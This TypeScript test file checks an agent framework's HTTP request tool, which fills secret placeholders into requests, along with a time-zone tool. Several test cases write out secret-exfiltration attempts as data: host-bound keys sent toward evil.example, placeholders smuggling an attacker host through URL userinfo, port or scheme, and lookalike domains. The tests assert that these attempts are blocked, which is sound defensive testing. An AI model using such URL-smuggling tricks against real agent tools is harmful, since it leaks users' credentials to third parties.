import { expect, test } from "vitest";
import type { Services } from "../../../src/context/ctx.ts";
import { CurrentPolicies, defaultPolicies } from "../../../src/core/policies.ts";
import type { EgressRequest } from "../../../src/core/ports.ts";
import { builtins, currentTimeTool } from "../../../src/features/tools/builtin.ts";
import { httpRequestTool } from "../../../src/features/tools/http-request.ts";
import { type Placeholder, Placeholders } from "../../../src/features/tools/placeholders.ts";
import type { Tool } from "../../../src/turn/types.ts";
import { TestClock } from "../../clock.ts";
import { toolContext } from "../../turn/input.ts";

const context = toolContext();
const call = async (tool: Tool, args: unknown) => tool.execute(tool.validate(args), context);

/** The tool with a network that records requests. */
function http(placeholders: Placeholder[] = []) {
  const asked: EgressRequest[] = [];
  const policies = new CurrentPolicies();
  policies.set({ ...defaultPolicies, httpAllowedHosts: ["inside.example"] });
  const egress = {
    request: async (request: EgressRequest) => {
      asked.push(request);
      return { status: 201, headers: { etag: "x" }, body: "made", url: request.url };
    },
  };
  return {
    asked,
    tool: httpRequestTool({ egress, policies } as unknown as Services, "acme", new Placeholders(placeholders)),
  };
}

const key: Placeholder = { text: "{{skill_env.shop.KEY}}", value: "sk-1", bounds: [] };
const bound: Placeholder = { text: "{{skill_env.shop.BOUND}}", value: "sk-2", bounds: [["api.example"]] };

test("every tool has a description, takes an object, and has a name of its own", () => {
  expect(new Set(builtins.map(({ name }) => name)).size).toBe(builtins.length);
  for (const definition of builtins) {
    const tool = definition.implement(async () => null);
    expect(tool.inputSchema).toMatchObject({ type: "object" });
    expect(tool.inputSchema).not.toHaveProperty("$schema");
    expect(definition.description).toMatch(/\.$/);
  }
});

test("only requests to the web change something outside and see secrets", () => {
  const tools = builtins.map((definition) => definition.implement(async () => null));
  const named = (those: Tool[]) => those.map(({ name }) => name);
  expect(named(tools.filter(({ effect }) => effect === "external"))).toEqual(["httpRequest"]);
  expect(named(tools.filter(({ seesSecrets }) => seesSecrets))).toEqual(["httpRequest"]);
});

test("arguments that are not as declared are reported by field", () => {
  const { tool } = http();
  expect(() => tool.validate({ url: 7, method: "BREW" })).toThrow(/^The arguments are not valid: url .*; method /);
  expect(() => tool.validate("x")).toThrow(/not valid/);
});

test("a request is sent as asked, a value as JSON, under the installation's policy", async () => {
  const { tool, asked } = http();
  expect(await call(tool, { url: "https://a.example/x" })).toEqual({
    status: 201,
    headers: { etag: "x" },
    body: "made",
  });
  await call(tool, { url: "https://a.example/", method: "POST", body: { a: [1] } });
  await call(tool, { url: "https://a.example/", method: "PUT", headers: { "content-type": "text/csv" }, body: "a;b" });
  expect(asked).toMatchObject([
    { method: "GET", body: undefined, headers: {}, sensitive: false, allowedHosts: ["inside.example"], owner: "acme" },
    { method: "POST", body: '{"a":[1]}', headers: { "Content-Type": "application/json" } },
    { method: "PUT", body: "a;b", headers: { "content-type": "text/csv" } },
  ]);
});

test("of long values a call takes 1 MiB, however often they occur: other placeholders stay", async () => {
  const { tool, asked } = http([{ ...key, value: "v".repeat(8_192) }]);
  const many = Array.from({ length: 20_000 }, () => "{{skill_env.shop.KEY}}");
  await call(tool, { url: "https://a.example/", method: "POST", headers: { "X-Key": many[0] }, body: many });
  const sent = JSON.parse(asked[0]?.body ?? "[]");
  expect(sent.filter((text: string) => text.startsWith("v"))).toHaveLength(127);
  expect(sent.at(-1)).toBe("{{skill_env.shop.KEY}}");
});

test("placeholders are filled in everywhere, and mark the request", async () => {
  const { tool, asked } = http([key]);
  await call(tool, {
    url: "https://a.example/?k={{skill_env.shop.KEY}}",
    headers: { Authorization: "Bearer {{skill_env.shop.KEY}}" },
    body: { deep: [{ key: "{{skill_env.shop.KEY}}" }], other: "{{skill_env.shop.OTHER}}" },
  });
  expect(asked).toMatchObject([
    {
      url: "https://a.example/?k=sk-1",
      headers: { Authorization: "Bearer sk-1" },
      body: '{"deep":[{"key":"sk-1"}],"other":"{{skill_env.shop.OTHER}}"}',
      sensitive: true,
    },
  ]);
});

test("a value bound to hosts is sent to them only, and can't choose the host itself", async () => {
  const host: Placeholder = { text: "{{skill_env.shop.HOST}}", value: "evil.example/", bounds: [["api.example"]] };
  const { tool, asked } = http([bound, host]);
  const headers = { "X-Key": bound.text };
  await call(tool, { url: "https://api.example/", headers });
  await call(tool, { url: "https://evil.example/?for=api.example", headers });
  await call(tool, { url: "https://api.example@{{skill_env.shop.HOST}}/", headers });
  expect(asked.map((request) => request.headers["X-Key"])).toEqual(["sk-2", bound.text, bound.text]);
  const smuggled = call(tool, { url: "https://{{skill_env.shop.HOST}}@api.example/", headers });
  await expect(smuggled).rejects.toThrow("A placeholder that is bound to hosts can't stand in the host");
});

test.each([
  ["api.example", "https://API.Example/", true],
  ["api.example", "https://api.example./x", true],
  ["api.example", "https://api.example:443/", true],
  ["api.example", "http://api.example/", false],
  ["api.example", "http://api.example:443/", false],
  ["api.example", "https://api.example:8443/", false],
  ["api.example", "https://api.example.evil/", false],
  ["api.example", "ftp://api.example/", false],
  ["api.example:8443", "https://api.example:8443/", true],
  ["api.example:8443", "https://API.EXAMPLE.:8443/", true],
  ["api.example:8443", "http://api.example:8443/", true],
  ["api.example:8443", "https://api.example/", false],
  ["api.example:443", "https://api.example/", true],
  ["api.example:80", "http://api.example/", true],
  ["[::1]:8080", "http://[0:0::1]:8080/", true],
  ["[::1]", "https://[::1]/", true],
  ["[::1]", "http://[::1]/", false],
])("a value for %s at %s: %s", async (entry, url, goes) => {
  const { tool, asked } = http([{ ...bound, bounds: [[entry]] }]);
  await call(tool, { url, headers: { "X-Key": bound.text } });
  expect(asked[0]?.headers["X-Key"]).toBe(goes ? "sk-2" : bound.text);
});

test.each([
  "https://api.example:{{skill_env.shop.BOUND}}/",
  "{{skill_env.shop.BOUND}}://api.example:8443/",
])("a bound value chooses neither port nor scheme: %s", async (url) => {
  for (const value of ["8443", "http"]) {
    const { tool, asked } = http([{ ...bound, value, bounds: [["api.example", "api.example:8443"]] }]);
    const headers = { "X-Key": bound.text };
    await call(tool, { url, headers }).catch(() => {});
    expect(asked.filter((request) => request.headers["X-Key"] !== bound.text)).toEqual([]);
  }
});

test("in a query a value is encoded, elsewhere inserted as it is", async () => {
  const odd: Placeholder = { text: "{{skill_env.shop.ODD}}", value: "a&b=+/c", bounds: [] };
  const { tool, asked } = http([odd]);
  await call(tool, { url: "https://a.example/x?q={{skill_env.shop.ODD}}&z=1", headers: { "X-Odd": odd.text } });
  expect(asked[0]).toMatchObject({
    url: "https://a.example/x?q=a%26b%3D%2B%2Fc&z=1",
    headers: { "X-Odd": "a&b=+/c" },
  });
});

test("placeholders within a value are not filled in", () => {
  const nested: Placeholder = { text: "{{skill_env.a.X}}", value: "<{{skill_env.shop.KEY}}>", bounds: [] };
  expect(new Placeholders([key, nested]).fill("{{skill_env.a.X}}", null)).toBe("<{{skill_env.shop.KEY}}>");
});

test("placeholders in field names are not filled in", () => {
  expect(new Placeholders([key]).fillJson({ [key.text]: key.text }, null)).toEqual({ [key.text]: "sk-1" });
});

test("the time is given in the agent's zone or in another one, and an unknown zone is refused", async () => {
  const clock = new TestClock();
  const tool = currentTimeTool(clock, "Europe/Zurich");
  const utc = new Date(clock.now()).toISOString();
  expect(await call(tool, {})).toMatchObject({ utc, timezone: "Europe/Zurich" });
  expect(await call(tool, { timezone: "Asia/Tokyo" })).toMatchObject({ utc, timezone: "Asia/Tokyo" });
  await expect(call(tool, { timezone: "Mars/Base" })).rejects.toThrow("There is no time zone Mars/Base");
});

test("blanks inside the braces mean nothing", () => {
  const spaced: Placeholder = { text: "{{skill_env.shop.A B }}", value: "sk-3", bounds: [] };
  const braced: Placeholder = { text: "{{skill_env.shop.KEY}}x}}", value: "sk-4", bounds: [] };
  const placeholders = new Placeholders([key, spaced, braced]);
  const fill = (text: string) => placeholders.fill(text, null);
  expect(fill("{{ skill_env.shop.KEY }} {{skill_env.shop.KEY\n}}")).toBe("sk-1 sk-1");
  expect(fill("{{ skill_env.shop.A B }} {{skill_env.shop.A B  }}")).toBe("sk-3 sk-3");
  expect(fill("{{ skill_env.shop.KEY}}x}} {{ skill_env.shop. KEY }}")).toBe("sk-4 {{ skill_env.shop. KEY }}");
});
